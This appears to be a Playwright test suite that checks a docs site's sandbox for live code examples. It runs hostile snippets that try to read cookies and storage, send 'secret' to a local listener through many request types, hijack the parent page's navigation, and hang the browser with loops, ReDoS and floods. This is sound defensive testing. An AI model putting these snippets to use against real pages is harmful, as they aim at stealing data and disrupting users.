// What code in a live example tries, and how far it comes. Each test runs real code in a real browser.
import { createServer, type Server, type Socket } from 'node:net';
import type { Page } from '@playwright/test';
import { COMPONENT, openBlock, openEditor, runProgram } from '../live-steps.ts';
import { expect, test } from '../site-test.ts';

/** A place outside the site that counts what comes. */
interface Listener {
  readonly origin: string;
  /** Connections over which something was sent. A browser may open one ahead and send nothing. */
  readonly visits: () => number;
  readonly close: () => Promise<void>;
}

async function listenOutside(): Promise<Listener> {
  let count = 0;
  const sockets = new Set<Socket>();
  const server: Server = createServer((socket) => {
    socket.once('data', () => {
      count += 1;
      socket.destroy();
    });
    socket.on('error', () => undefined);
    sockets.add(socket);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    origin: `127.0.0.1:${port}`,
    visits: () => count,
    close: () => {
      for (const socket of sockets) {
        socket.destroy();
      }
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

/** The page still works: its menu opens the search, and no frame is left that does not answer. */
async function expectUsable(page: Page): Promise<void> {
  const title = await page.evaluate(() => document.title, undefined);
  expect(title).not.toBe('hacked');
  await page.getByRole('button', { name: /^Switch between dark and light mode/ }).click();
}

test('no access to the page, the storage or more rights', async ({ page, context }) => {
  await context.addCookies([{ name: 'session', value: 'secret', url: 'http://localhost' }]);
  const block = await openEditor(page);
  await page.evaluate(() => localStorage.setItem('secret', 'secret'));
  await runProgram(
    block,
    `const tries: Record<string, () => unknown> = {
  parent: () => parent.document.title,
  top: () => (top!.document.title = 'hacked'),
  location: () => parent.location.href,
  localStorage: () => localStorage.getItem('secret'),
  sessionStorage: () => sessionStorage.length,
  cookie: () => document.cookie,
  eval: () => (0, eval)('1'),
  Function: () => new Function('return 1')(),
  timeout: () => setTimeout('parent.postMessage(1, "*")', 0) && 'ignored',
  blob: () => URL.createObjectURL(new Blob(['1'])),
  rtc: () => new RTCPeerConnection(),
  inner: () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return new (frame.contentWindow as any).RTCPeerConnection();
  },
  popup: () => String(open('https://example.com/')),
  dialog: () => String(confirm('Password?')),
  origin: () => origin,
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    console.log(name, attempt());
  } catch (error) {
    console.log(name, 'refused:', (error as Error).name);
  }
}`,
  );
  await expect(block.lines).toHaveText([
    'parent refused: SecurityError',
    'top refused: SecurityError',
    'location refused: SecurityError',
    'localStorage refused: SecurityError',
    'sessionStorage refused: SecurityError',
    'cookie refused: SecurityError',
    'eval refused: EvalError',
    'Function refused: EvalError',
    /^timeout /,
    'blob refused: TypeError',
    'rtc refused: ReferenceError',
    'inner refused: SecurityError',
    'popup null',
    'dialog false',
    'origin null',
  ]);
  expect(context.pages()).toHaveLength(1);
  await expectUsable(page);
});

test('no request leaves: neither to the site nor to any other place', async ({ page, baseURL }) => {
  const outside = await listenOutside();
  const answers: string[] = [];
  try {
    const block = await openEditor(page);
    await runProgram(block, 'console.log("warm");');
    await expect(block.lines).toHaveText(['warm']);
    // Not requests: the browser reports those, too, that the policy keeps from being sent.
    page.on('response', (response) => answers.push(response.url()));
    await runProgram(
      block,
      `const outside = '${outside.origin}';
const site = '${baseURL}/vibe/docs/getting-started/intro';
const add = (name: string, facts: object) => {
  document.body.append(Object.assign(document.createElement(name), facts));
};
const tries: Record<string, () => unknown> = {
  fetch: () => fetch('http://' + outside + '/fetch'),
  site: () => fetch(site),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open('GET', 'http://' + outside + '/xhr');
    request.send();
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://' + outside + '/socket');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  events: () => new Promise((resolve, reject) => {
    const events = new EventSource('http://' + outside + '/events');
    events.onopen = resolve;
    events.onerror = reject;
  }),
  image: () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = reject;
    image.src = 'http://' + outside + '/image?secret';
  }),
  module: () => import('http://' + outside + '/module.js' as string),
};
navigator.sendBeacon('http://' + outside + '/beacon', 'secret');
add('script', { src: 'http://' + outside + '/script.js' });
add('iframe', { src: 'http://' + outside + '/frame' });
add('object', { data: 'http://' + outside + '/object' });
add('video', { src: 'http://' + outside + '/video' });
add('link', { rel: 'stylesheet', href: 'http://' + outside + '/style.css' });
add('link', { rel: 'prefetch', href: 'http://' + outside + '/prefetch' });
add('link', { rel: 'preload', as: 'image', href: 'http://' + outside + '/preload' });
add('style', { textContent: '@import "http://' + outside + '/import.css"' });
const form = Object.assign(document.createElement('form'), { action: 'http://' + outside });
document.body.append(form);
form.submit();
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await attempt();
    console.log(name, 'came through');
  } catch {
    console.log(name, 'refused');
  }
}`,
    );
    const names = ['fetch', 'site', 'xhr', 'socket', 'events', 'image', 'module'];
    await expect(block.lines).toHaveText(names.map((name) => `${name} refused`));
    await page.waitForTimeout(500);
    expect(outside.visits()).toBe(0);
    const isOwn = (url: string) => /\/assets\/live\/frame-|^blob:/.test(url);
    expect(answers.filter((url) => !isOwn(url))).toEqual([]);
  } finally {
    await outside.close();
  }
});

for (const [name, code] of [
  ['the page above', (to: string) => `top!.location.href = '${to}';`],
  [
    'the page above by a link',
    (to: string) =>
      `const a = Object.assign(document.createElement('a'), { href: '${to}', target: '_top' }); document.body.append(a); a.click();`,
  ],
] as const) {
  test(`cannot navigate ${name}`, async ({ page }) => {
    const outside = await listenOutside();
    try {
      const block = await openEditor(page);
      const address = page.url();
      await runProgram(block, code(`http://${outside.origin}/top`));
      await expect(block.status).toContainText(/SecurityError|Done/);
      await page.waitForTimeout(300);
      expect(page.url()).toBe(address);
      expect(outside.visits()).toBe(0);
    } finally {
      await outside.close();
    }
  });
}

for (const [name, target] of [
  ['elsewhere', (outside: string) => `http://${outside}/self?secret`],
  ['to a page of the site', () => '/vibe/docs/getting-started/intro'],
] as const) {
  test(`a frame that goes ${name} is removed`, async ({ page }) => {
    const outside = await listenOutside();
    try {
      const block = await openEditor(page);
      await runProgram(block, `location.href = '${target(outside.origin)}';`);
      await expect(block.status).toHaveText('Stopped: the code tried to leave its frame.');
      await expect(block.frame).toHaveCount(0);
      expect(outside.visits()).toBe(0);
      await expectUsable(page);
    } finally {
      await outside.close();
    }
  });
}

const RECURSION = 'const f = (n: number): number => n < 2 ? n : f(n - 1) + f(n - 2);\nf(80);';
const LOOP = 'Stopped: the code ran for a second without a pause. Is there a loop that never ends?';
const FLOOD = 'Stopped: the code printed more than the page shows.';
const SILENT = 'Stopped: the code did not answer for three seconds.';

for (const [name, code, message] of [
  ['a loop', 'while (true) {}', LOOP],
  ['a loop that catches everything', 'while (true) { try { while (true) {} } catch {} }', LOOP],
  ['a loop of promises', 'while (true) await null;', LOOP],
  ['a recursion that branches', RECURSION, LOOP],
  ['a loop in a later task', 'setTimeout(() => { for (;;); }, 100);', LOOP],
  [
    'memory in a loop',
    'const kept: string[] = [];\nfor (;;) kept.push(String(Math.random()).repeat(1000));',
    LOOP,
  ],
  ['work inside the browser', '/^(a+)+$/.test("a".repeat(50) + "b");', SILENT],
  ['lines without end', 'for (;;) console.log("again");', FLOOD],
  ['lines from a timer', 'setInterval(() => console.log("again"), 0);', FLOOD],
  [
    'a flood past the console',
    'setInterval(() => { for (let n = 0; n < 100; n++) parent.postMessage({ kind: "height", pixels: 1 }, "*"); }, 10);',
    FLOOD,
  ],
  ['messages that the page does not know', 'parent.postMessage({ kind: "run" }, "*");', FLOOD],
  ['256 MB past the console', 'parent.postMessage("x".repeat(2 ** 28), "*");', FLOOD],
] as const) {
  test(`stops ${name}`, async ({ page }) => {
    const block = await openEditor(page);
    await runProgram(block, code);
    await expect(block.status).toHaveText(message, { timeout: 15_000 });
    await expect(block.frame).toHaveCount(0);
    expect(await block.lines.count()).toBeLessThanOrEqual(200);
    await expectUsable(page);
    await runProgram(block, 'console.log("alive");');
    await expect(block.lines).toHaveText(['alive']);
  });
}

test('the guard alone stops loops where frame and page share a process', async ({
  playwright,
  baseURL,
}) => {
  // Firefox and Safari have no process for such a frame, phones with little memory neither.
  const browser = await playwright.chromium.launch({
    ...(process.env.CHROMIUM_PATH === undefined
      ? {}
      : { executablePath: process.env.CHROMIUM_PATH }),
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-site-isolation-trials',
      '--disable-features=IsolateSandboxedIframes',
    ],
  });
  try {
    const page = await browser.newPage({ ...(baseURL === undefined ? {} : { baseURL }) });
    const block = await openEditor(page);
    const session = await browser.newBrowserCDPSession();
    const { targetInfos } = await session.send('Target.getTargets');
    expect(targetInfos.filter(({ type }) => type === 'iframe')).toEqual([]);
    for (const code of ['while (true) {}', 'while (true) await null;', RECURSION]) {
      await runProgram(block, code);
      await expect(block.status).toHaveText(LOOP, { timeout: 15_000 });
      await expectUsable(page);
      await runProgram(block, 'console.log("alive");');
      await expect(block.lines).toHaveText(['alive']);
    }
  } finally {
    await browser.close();
  }
});

test('a text of 1 GB ends in an error, and one of half of it is cut', async ({ page }) => {
  const block = await openEditor(page);
  await runProgram(block, '"x".repeat(2 ** 30);');
  await expect(block.status).toContainText('line 1: RangeError: Invalid string length');
  await runProgram(block, 'console.log("x".repeat(2 ** 29 - 24));');
  await expect(block.lines).toHaveText([/^x{2000} …$/], { timeout: 15_000 });
  await expectUsable(page);
});

test('an endless recursion is an error like any other', async ({ page }) => {
  const block = await openEditor(page);
  await runProgram(block, 'const f = (): number => f() + 1;\nf();');
  await expect(block.status).toContainText('RangeError: Maximum call stack size exceeded');
});

test('a loop that a reader starts with a press is stopped too', async ({ page }) => {
  const block = await openBlock(page, COMPONENT);
  await block.press('Run');
  await block.press(/^Edit/);
  await runProgram(
    block,
    'export function App() {\n  return <button onClick={() => { while (true); }}>Loop</button>;\n}',
  );
  await block.figure.frameLocator('iframe').getByRole('button', { name: 'Loop' }).click();
  await expect(block.status).toHaveText(LOOP);
  await expectUsable(page);
});
